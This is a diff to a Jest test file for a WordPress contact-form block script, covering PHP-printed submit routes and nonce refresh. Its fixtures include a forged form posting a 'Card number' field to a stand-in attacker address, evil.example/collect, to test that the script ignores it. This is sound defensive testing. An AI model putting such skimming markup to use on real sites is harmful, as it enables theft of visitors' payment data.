@@ -3,39 +3,26 @@
  * that the typed values stay in the form whenever the message was not sent.
  */
 
+import { fakeResponse } from '../../../../tests/unit/fake-response';
+
 const SITE_PROBLEM =
 	'Your message was not sent because of a problem on the site. Please try again in a moment.';
 const UNREACHABLE =
 	'Your message was not sent because the site could not be reached. Please check your connection and try again.';
-
-interface FakeAnswer {
-	status: number;
-	json?: unknown;
-}
-
-/**
- * What fetch() resolves to: only the parts the script reads.
- *
- * @param answer Status and JSON body (none: the body is an HTML page).
- */
-function fakeResponse( answer: FakeAnswer ) {
-	return {
-		ok: answer.status >= 200 && answer.status < 300,
-		status: answer.status,
-		json: () =>
-			'json' in answer
-				? Promise.resolve( answer.json )
-				: Promise.reject( new SyntaxError( 'Unexpected token <' ) ),
-	};
-}
 
 let form: HTMLFormElement;
 let fetchMock: jest.Mock;
 let plainSubmit: jest.Mock;
 
 beforeEach( () => {
+	// What PHP printed for the script (php/view-settings.php).
+	( window as unknown as { blockpackView: unknown } ).blockpackView = {
+		'jetpack/contact-form': {
+			submitUrl: '/wp-json/blockpack/v1/contact-form/submit',
+		},
+	};
 	document.body.innerHTML = `
-		<form class="contact-form" method="post" action="/contact/" data-submit-url="/wp-json/blockpack/v1/contact-form/submit">
+		<form class="contact-form" method="post" action="/contact/">
 			<div data-field-name="field_1"><label for="f1">Name</label><input id="f1" name="field_1" /></div>
 			<div data-field-name="field_2"><label for="f2">Message</label><textarea id="f2" name="field_2"></textarea></div>
 			<input type="hidden" name="contact-form-key" value="" />
@@ -238,4 +225,144 @@ test( 'every attempt to send one view of the form carries the same key; another 
 	 ).value;
 	expect( other ).toMatch( /^[A-Za-z0-9-]{16,64}$/ );
 	expect( other ).not.toBe( key );
+} );
+
+describe( 'a form forged by content (Custom HTML survives kses with its data attributes)', () => {
+	const PRINTED = '/wp-json/blockpack/v1/contact-form/submit';
+	let forged: HTMLFormElement;
+	let real: HTMLFormElement;
+
+	beforeEach( () => {
+		( window as unknown as { blockpackView: unknown } ).blockpackView = {
+			'jetpack/contact-form': {
+				submitUrl: PRINTED,
+				restNonce: 'abcdef0123',
+				nonceUrl: '/wp-admin/admin-ajax.php?action=rest-nonce',
+			},
+		};
+		document.body.innerHTML = `
+			<div class="wp-block-jetpack-contact-form">
+				<form class="contact-form" method="post" action="https://evil.example/plain" data-submit-url="https://evil.example/collect" data-wp-rest-nonce="9999999999">
+					<div data-field-name="field_1"><label for="x1">Card number</label><input id="x1" name="field_1" value="4111" /></div>
+					<button type="submit">Pay</button>
+				</form>
+			</div>
+			<div class="wp-block-jetpack-contact-form">
+				<form class="contact-form" method="post" action="/contact/" data-submit-url="${ PRINTED }?contact-form-post=1">
+					<div data-field-name="field_1"><label for="r1">Name</label><input id="r1" name="field_1" value="Ada" /></div>
+					<input type="hidden" name="contact-form-key" value="" />
+					<button type="submit">Send</button>
+				</form>
+			</div>`;
+		[ forged, real ] = Array.from(
+			document.querySelectorAll< HTMLFormElement >( 'form' )
+		);
+		forged.submit = jest.fn();
+		real.submit = jest.fn();
+		fetchMock.mockReset();
+		fetchMock.mockResolvedValue(
+			fakeResponse( {
+				status: 400,
+				json: {
+					code: 'blockpack_contact_form_invalid',
+					message: 'No.',
+				},
+			} )
+		);
+		jest.isolateModules( () => {
+			require( '../view' );
+		} );
+	} );
+
+	afterEach( () => {
+		delete ( window as unknown as { blockpackView?: unknown } )
+			.blockpackView;
+	} );
+
+	const submitted = async ( target: HTMLFormElement ) => {
+		target.dispatchEvent( new Event( 'submit', { cancelable: true } ) );
+		for ( let i = 0; i < 5; i++ ) {
+			await new Promise( ( resolve ) => setTimeout( resolve, 0 ) );
+		}
+	};
+
+	test( 'what a visitor types in a forged form never goes to the address its data attribute names', async () => {
+		await submitted( forged );
+		const urls = fetchMock.mock.calls.map( ( call ) =>
+			String( call[ 0 ] )
+		);
+		expect( urls.filter( ( url ) => url.includes( 'evil' ) ) ).toEqual(
+			[]
+		);
+		expect( urls ).toEqual( [ PRINTED ] );
+		// The user's nonce is the one PHP printed, never one the content wrote.
+		expect( fetchMock.mock.calls[ 0 ][ 1 ].headers[ 'X-WP-Nonce' ] ).toBe(
+			'abcdef0123'
+		);
+	} );
+
+	test( 'the real form sends to the printed route only, without parameters its markup adds', async () => {
+		await submitted( real );
+		expect( fetchMock.mock.calls.map( ( call ) => call[ 0 ] ) ).toEqual( [
+			PRINTED,
+		] );
+	} );
+
+	test( "a logged-in user's stale nonce: refreshed once, the same message sent once more; refused again, the error shows and the values stay", async () => {
+		const stale = fakeResponse( {
+			status: 403,
+			json: {
+				code: 'rest_cookie_invalid_nonce',
+				message: 'Cookie check failed',
+			},
+		} );
+		fetchMock.mockReset();
+		fetchMock
+			.mockResolvedValueOnce( stale )
+			.mockResolvedValueOnce(
+				fakeResponse( { status: 200, text: '0123456789' } )
+			)
+			.mockResolvedValueOnce( stale );
+		await submitted( real );
+		expect( fetchMock.mock.calls.map( ( call ) => call[ 0 ] ) ).toEqual( [
+			PRINTED,
+			'/wp-admin/admin-ajax.php?action=rest-nonce',
+			PRINTED,
+		] );
+		expect( fetchMock.mock.calls[ 2 ][ 1 ].headers[ 'X-WP-Nonce' ] ).toBe(
+			'0123456789'
+		);
+		expect(
+			( fetchMock.mock.calls[ 2 ][ 1 ].body as FormData ).get(
+				'contact-form-key'
+			)
+		).toBe(
+			( fetchMock.mock.calls[ 0 ][ 1 ].body as FormData ).get(
+				'contact-form-key'
+			)
+		);
+		expect( real.querySelector( '[role="alert"]' )?.textContent ).toBe(
+			'Cookie check failed'
+		);
+		expect(
+			( real.querySelector( '#r1' ) as HTMLInputElement ).value
+		).toBe( 'Ada' );
+		expect( real.submit ).not.toHaveBeenCalled();
+	} );
+
+	test( 'without printed settings (no route to send to), the form is left to its plain POST', async () => {
+		delete ( window as unknown as { blockpackView?: unknown } )
+			.blockpackView;
+		document.body.innerHTML = `<form id="blockpackView" class="contact-form" method="post" action="/contact/" data-submit-url="https://evil.example/collect"><button type="submit">Send</button></form>`;
+		const only = document.querySelector( 'form' ) as HTMLFormElement;
+		fetchMock.mockReset();
+		jest.isolateModules( () => {
+			require( '../view' );
+		} );
+		const event = new Event( 'submit', { cancelable: true } );
+		only.dispatchEvent( event );
+		await new Promise( ( resolve ) => setTimeout( resolve, 0 ) );
+		expect( fetchMock ).not.toHaveBeenCalled();
+		expect( event.defaultPrevented ).toBe( false );
+	} );
 } );
